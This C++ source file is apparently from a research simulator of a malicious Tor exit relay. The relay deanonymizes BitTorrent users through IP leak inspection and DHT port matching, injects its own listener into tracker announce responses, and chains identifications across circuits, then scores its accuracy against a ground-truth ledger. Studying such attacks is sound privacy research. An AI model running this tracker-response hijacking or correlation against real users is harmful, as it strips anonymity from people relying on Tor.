#include "swarmtap/adversary.hpp"

#include <algorithm>

#include "swarmtap/error.hpp"

namespace swarmtap::adversary {

using namespace btwire;

const char* to_string(Method m) {
  switch (m) {
    case Method::InspectionAnnounce: return "inspection_announce";
    case Method::InspectionExtHandshake: return "inspection_ext_handshake";
    case Method::Hijack: return "hijack";
    case Method::DhtMatch: return "dht_match";
    case Method::DominoIntra: return "domino_intra";
    case Method::DominoInter: return "domino_inter";
  }
  return "?";
}

ExitMonitor::ExitMonitor(MonitorConfig cfg, swarm::GetPeersFn dht_query)
    : cfg_(std::move(cfg)), dht_query_(std::move(dht_query)) {
  self_id_ = PeerId::make("-XX0001-", Bytes(12, '\0'));
}

StreamDigest& ExitMonitor::digest(const ExitObservation& obs) {
  auto it = digests_.find(obs.stream_id);
  if (it != digests_.end()) return it->second;
  StreamDigest d;
  d.id = obs.stream_id;
  d.circuit = obs.circuit_id;
  d.exit_relay = obs.exit_relay;
  d.first_seen = obs.time;
  d.destination = obs.destination;
  d.encrypted = obs.payload_encrypted;
  it = digests_.emplace(obs.stream_id, std::move(d)).first;
  if (cfg_.domino) capture_list_candidates(it->second, obs.time);
  return it->second;
}

void ExitMonitor::capture_list_candidates(StreamDigest& d, int64_t now) {
  auto bucket = list_index_.find(d.destination);
  if (bucket == list_index_.end()) return;
  for (const ListEntry& e : bucket->second) {
    if (now - e.time > cfg_.inter_domino_window_s) continue;  // aged out
    if (e.circuit == d.circuit) continue;                     // inter-circuit rule only
    if (e.exit_relay != d.exit_relay) continue;  // same-exit matching keeps FPs rare
    d.list_candidates.push_back({e.time, e.stream});
  }
}

void ExitMonitor::remember_list(const StreamDigest& d, int64_t now,
                                const std::vector<Endpoint>& eps) {
  if (now - last_list_sweep_ > cfg_.inter_domino_window_s) {
    for (auto it = list_index_.begin(); it != list_index_.end();) {
      auto& v = it->second;
      std::erase_if(v, [&](const ListEntry& e) {
        return now - e.time > cfg_.inter_domino_window_s;
      });
      it = v.empty() ? list_index_.erase(it) : std::next(it);
    }
    last_list_sweep_ = now;
  }
  for (const Endpoint& ep : eps) {
    if (ep == cfg_.listener) continue;
    list_index_[ep].push_back({now, d.id, d.circuit, d.exit_relay});
  }
}

void ExitMonitor::inspect_announce(const AnnounceRequest& req, const StreamDigest& d,
                                   int64_t now) {
  auto cls = classify_ip_detail(req.ip_field, cfg_.exit_ips);
  tally_.announce[static_cast<size_t>(cls.cls)]++;
  if (cls.cls != IpClass::PublicNonExit) return;
  DeanonRecord rec;
  rec.claimed_ip = *cls.addr;
  rec.method = Method::InspectionAnnounce;
  rec.verified = false;  // authenticity never checked for inspection
  rec.supporting_streams.insert(d.id);
  rec.peer_ids_seen = d.peer_ids;
  rec.time = now;
  records_.push_back(std::move(rec));
}

void ExitMonitor::inspect_ext(const ExtendedHandshake& eh, const StreamDigest& d, int64_t now) {
  auto cls = classify_ip_detail(eh.self_ip, cfg_.exit_ips);
  tally_.ext[static_cast<size_t>(cls.cls)]++;
  if (cls.cls != IpClass::PublicNonExit) return;
  DeanonRecord rec;
  rec.claimed_ip = *cls.addr;
  rec.method = Method::InspectionExtHandshake;
  rec.verified = false;
  rec.supporting_streams.insert(d.id);
  rec.peer_ids_seen = d.peer_ids;
  rec.time = now;
  records_.push_back(std::move(rec));
}

const std::set<Endpoint>& ExitMonitor::crawl_cached(const InfoHash& ih, int64_t now) {
  auto it = crawl_cache_.find(ih);
  if (it != crawl_cache_.end() && now - it->second.time <= cfg_.crawl_cache_ttl_s)
    return it->second.endpoints;
  ++crawls_;
  CachedCrawl c;
  c.time = now;
  c.endpoints = swarm::dht_crawl(ih, dht_query_, cfg_.crawl_stable_rounds,
                                 cfg_.dht_peers_per_response);
  return crawl_cache_.insert_or_assign(ih, std::move(c)).first->second.endpoints;
}

void ExitMonitor::maybe_dht_match(StreamDigest& d, int64_t now) {
  if (!cfg_.dht_match) return;
  if (!d.has_infohash || !d.leaked_port) return;
  uint16_t port = *d.leaked_port;
  if (cfg_.port_exclusions.count(port)) return;  // popular ports: abstain outright
  auto key = std::make_pair(d.infohash, port);
  auto memo = match_attempts_.find(key);
  if (memo != match_attempts_.end()) {
    // retry an abstention only once fresher crawl data can exist
    if (memo->second.claimed || now - memo->second.time <= cfg_.crawl_cache_ttl_s) return;
  }

  const std::set<Endpoint>& swarm_eps = crawl_cached(d.infohash, now);
  std::optional<Endpoint> candidate;
  bool unique = true;
  for (const Endpoint& ep : swarm_eps) {
    if (ep.port != port || cfg_.exit_ips.count(ep.ip)) continue;
    if (candidate) {
      unique = false;
      break;
    }
    candidate = ep;
  }
  bool claimed = candidate && unique;
  match_attempts_.insert_or_assign(key, MatchAttempt{now, claimed});
  if (!claimed) return;  // abstain: zero or several matches

  DeanonRecord rec;
  rec.claimed_ip = candidate->ip;
  rec.method = Method::DhtMatch;
  rec.verified = true;
  rec.supporting_streams.insert(d.id);
  rec.peer_ids_seen = d.peer_ids;
  rec.time = now;
  records_.push_back(std::move(rec));
}

void ExitMonitor::on_to_destination(const ExitObservation& obs) {
  StreamDigest& d = digest(obs);
  if (obs.payload_encrypted) return;
  const Bytes& p = obs.payload;

  if (looks_like_announce_request(p)) {
    AnnounceRequest req;
    try {
      req = parse_announce_request(p);
    } catch (const MalformedInput&) {
      return;
    }
    d.saw_announce = true;
    d.has_infohash = true;
    d.infohash = req.infohash;
    d.leaked_port = req.port;
    d.peer_ids.insert(req.peer_id);
    if (cfg_.inspect) inspect_announce(req, d, obs.time);
    maybe_dht_match(d, obs.time);
    return;
  }
  if (looks_like_handshake(p)) {
    Handshake hs;
    try {
      hs = parse_handshake(p);
    } catch (const MalformedInput&) {
      return;
    }
    d.has_infohash = true;
    d.infohash = hs.infohash;
    d.peer_ids.insert(hs.peer_id);
    maybe_dht_match(d, obs.time);
    return;
  }
  if (looks_like_extended_handshake(p)) {
    ExtendedHandshake eh;
    try {
      eh = parse_extended_handshake(p);
    } catch (const MalformedInput&) {
      return;
    }
    if (eh.listen_port) d.leaked_port = eh.listen_port;
    if (cfg_.inspect) inspect_ext(eh, d, obs.time);
    maybe_dht_match(d, obs.time);
    return;
  }
  if (p.starts_with("GET ")) d.is_http = true;
}

void ExitMonitor::on_to_client(ExitObservation& obs) {
  StreamDigest& d = digest(obs);
  if (obs.payload_encrypted) return;
  if (!d.saw_announce) return;

  AnnounceResponse resp;
  try {
    resp = parse_announce_response(obs.payload);
  } catch (const MalformedInput&) {
    return;
  }

  if (cfg_.hijack) {
    // position-0 rewrite, length preserved (empty lists grow to one entry)
    if (resp.peers.empty()) {
      resp.peers.push_back(cfg_.listener);
    } else {
      resp.peers[0] = cfg_.listener;
    }
    obs.payload = encode_announce_response(resp);
    for (const PeerId& pid : d.peer_ids)
      pending_[std::make_pair(d.infohash, pid)] = Pending{d.id, obs.time};
  }
  if (cfg_.domino) remember_list(d, obs.time, resp.peers);
}

std::vector<Bytes> ExitMonitor::on_listener_connect(const Endpoint& src, const Bytes& payload,
                                                    int64_t now) {
  if (looks_like_handshake(payload)) {
    Handshake hs;
    try {
      hs = parse_handshake(payload);
    } catch (const MalformedInput&) {
      return {};
    }
    auto it = pending_.find(std::make_pair(hs.infohash, hs.peer_id));
    if (it == pending_.end()) return {};  // not one of ours
    if (now - it->second.time > cfg_.hijack_pending_ttl_s) {
      pending_.erase(it);
      return {};
    }
    HijackConnection conn;
    conn.time = now;
    conn.from_exit = cfg_.exit_ips.count(src.ip) > 0;
    conn.peer_id = hs.peer_id;
    conn.src_ip = src.ip;
    hijack_conns_.push_back(conn);
    last_conn_record_.erase(src);
    if (!conn.from_exit) {
      DeanonRecord rec;
      rec.claimed_ip = src.ip;
      rec.method = Method::Hijack;
      rec.verified = true;  // the victim connected back from this address
      rec.supporting_streams.insert(it->second.stream);
      rec.peer_ids_seen.insert(hs.peer_id);
      rec.time = now;
      records_.push_back(std::move(rec));
      last_conn_record_.emplace(src, records_.size() - 1);
    }
    // answer the handshake so the victim pushes a piece of the content
    return {encode_handshake(Handshake{hs.infohash, self_id_, 1ull << 20})};
  }
  if (auto piece = parse_piece_message(payload)) {
    auto it = last_conn_record_.find(src);
    if (it != last_conn_record_.end()) records_[it->second].piece_confirmed = true;
    if (!hijack_conns_.empty()) hijack_conns_.back().piece_confirmed = true;
    return {};
  }
  return {};
}

namespace {

struct Claimer {
  DominoResult& out;
  bool claim(StreamId s, const IpAddr& ip, Method m) {
    auto [it, inserted] = out.by_stream.try_emplace(s, DominoResult::Attribution{ip, m});
    if (inserted) return true;
    if (it->second.ip != ip)
      out.conflicts.push_back({s, it->second.ip, it->second.method, ip, m});
    return false;
  }
};

}  // namespace

DominoResult ExitMonitor::domino_link() const {
  DominoResult out;
  Claimer claimer{out};

  // direct attack seeds, in emission order
  for (const DeanonRecord& rec : records_) {
    for (StreamId s : rec.supporting_streams) claimer.claim(s, rec.claimed_ip, rec.method);
  }
  if (!cfg_.domino) return out;

  bool changed = true;
  while (changed) {
    changed = false;

    // (a) intra-circuit: one identified stream reveals the whole circuit
    std::map<CircuitId, IpAddr> circuit_ip;
    for (const auto& [sid, attr] : out.by_stream) {
      auto dit = digests_.find(sid);
      if (dit != digests_.end()) circuit_ip.try_emplace(dit->second.circuit, attr.ip);
    }
    for (const auto& [sid, d] : digests_) {
      if (out.by_stream.count(sid)) continue;
      auto cit = circuit_ip.find(d.circuit);
      if (cit != circuit_ip.end()) changed |= claimer.claim(sid, cit->second, Method::DominoIntra);
    }

    // (b) inter-circuit by peer id
    std::map<PeerId, IpAddr> peer_ip;
    for (const auto& [sid, d] : digests_) {
      auto ait = out.by_stream.find(sid);
      if (ait == out.by_stream.end()) continue;
      for (const PeerId& pid : d.peer_ids) peer_ip.try_emplace(pid, ait->second.ip);
    }
    for (const auto& [sid, d] : digests_) {
      if (out.by_stream.count(sid)) continue;
      for (const PeerId& pid : d.peer_ids) {
        auto pit = peer_ip.find(pid);
        if (pit != peer_ip.end()) {
          changed |= claimer.claim(sid, pit->second, Method::DominoInter);
          break;
        }
      }
    }

    // (c) inter-circuit by remembered tracker lists: destinations handed to a
    // compromised peer moments ago betray its later circuits
    for (const auto& [sid, d] : digests_) {
      if (out.by_stream.count(sid)) continue;
      for (const StreamDigest::ListCandidate& cand : d.list_candidates) {
        auto eit = out.by_stream.find(cand.entry_stream);
        if (eit != out.by_stream.end())
          changed |= claimer.claim(sid, eit->second.ip, Method::DominoInter);
      }
    }
  }
  return out;
}

// ---- evaluation ----

bool Evaluator::ip_matches_stream(StreamId id, const IpAddr& claimed) const {
  auto client = ledger_.stream_client(id);
  if (!client) return false;
  const auto* truth = ledger_.client_truth(*client);
  if (!truth) return false;
  if (truth->ip4 == claimed) return true;
  return truth->ip6 && *truth->ip6 == claimed;
}

std::optional<IpAddr> Evaluator::stream_ip4(StreamId id) const {
  auto client = ledger_.stream_client(id);
  if (!client) return std::nullopt;
  const auto* truth = ledger_.client_truth(*client);
  if (!truth) return std::nullopt;
  return truth->ip4;
}

std::optional<overlay::ClientId> Evaluator::stream_client(StreamId id) const {
  return ledger_.stream_client(id);
}

size_t Evaluator::ledger_stream_count() const { return ledger_.stream_count(); }

Evaluator::Evaluation Evaluator::evaluate(const DominoResult& domino,
                                          const std::vector<DeanonRecord>& records) const {
  Evaluation ev;
  ev.ledger_streams = ledger_.stream_count();
  ev.conflicts = domino.conflicts.size();

  auto finish = [&](MethodStats& s) {
    if (s.attributions > 0) s.precision = static_cast<double>(s.correct) / s.attributions;
    if (ev.ledger_streams > 0) s.recall = static_cast<double>(s.correct) / ev.ledger_streams;
  };

  for (const auto& [sid, attr] : domino.by_stream) {
    bool ok = ip_matches_stream(sid, attr.ip);
    MethodStats& m = ev.per_stream_method[attr.method];
    m.attributions++;
    ev.overall.attributions++;
    if (ok) {
      m.correct++;
      ev.overall.correct++;
    }
    if (attr.method == Method::DominoIntra) ev.intra_count++;
    if (attr.method == Method::DominoInter) ev.inter_count++;
  }
  for (auto& [_, stats] : ev.per_stream_method) finish(stats);
  finish(ev.overall);
  if (ev.intra_count + ev.inter_count > 0)
    ev.intra_share =
        static_cast<double>(ev.intra_count) / static_cast<double>(ev.intra_count + ev.inter_count);

  for (const DeanonRecord& rec : records) {
    MethodStats& m = ev.per_record_method[rec.method];
    m.attributions++;
    bool ok = !rec.supporting_streams.empty();
    for (StreamId s : rec.supporting_streams) ok = ok && ip_matches_stream(s, rec.claimed_ip);
    if (ok) m.correct++;
  }
  for (auto& [_, stats] : ev.per_record_method) {
    if (stats.attributions > 0)
      stats.precision = static_cast<double>(stats.correct) / stats.attributions;
  }
  return ev;
}

}  // namespace swarmtap::adversary
